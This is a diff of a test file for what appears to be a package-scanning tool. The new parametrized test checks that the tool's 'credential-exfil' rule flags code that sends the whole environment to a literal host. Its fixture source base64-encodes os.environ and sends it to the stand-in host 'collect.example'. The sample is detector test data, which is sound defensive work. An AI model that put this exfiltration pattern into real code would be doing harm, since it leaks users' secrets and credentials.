@@ -411,22 +411,27 @@ def test_the_environment_sent_to_a_tunnel_from_a_console_script_is_theft() -> No
     assert held and rules["credential-exfil"] == 10
 
 
-def test_the_environment_sent_to_an_ordinary_address_from_a_console_script_is_not_held() -> None:
+@pytest.mark.parametrize(
+    ("address", "theft"),
+    [
+        ("'https://collect.example/e/' + data", True),
+        ("endpoint", False),  # an address the caller names (a CI reporter, configured)
+    ],
+    ids=["to a literal host", "to an address the caller names"],
+)
+def test_the_whole_environment_sent_to_an_address_the_code_carries_is_theft(
+    address: str, theft: bool
+) -> None:
     source = (
-        "import os, requests\n"
-        "def run():\n"
-        "    requests.post('https://ci.example/api/report', json=dict(os.environ))\n"
+        "import base64, json, os, requests\n"
+        "def report(endpoint):\n"
+        "    data = base64.b64encode(json.dumps(dict(os.environ)).encode()).decode()\n"
+        f"    requests.get({address}, params={{'d': data}})\n"
     )
-    archive = sdist(
-        {
-            "PKG-INFO": pkg_info(),
-            "demo/__init__.py": "",
-            "demo/cli.py": source,
-            "demo.egg-info/entry_points.txt": "[console_scripts]\ndemo = demo.cli:run\n",
-        }
+    rules, _ = _report(
+        sdist({"PKG-INFO": pkg_info(), "demo/__init__.py": source}), "demo-1.0.tar.gz"
     )
-    rules, held = _report(archive, "demo-1.0.tar.gz")
-    assert not held and rules.get("credential-exfil", 0) < 10
+    assert (rules["credential-exfil"] == 10) is theft
 
 
 COLLECT = """\
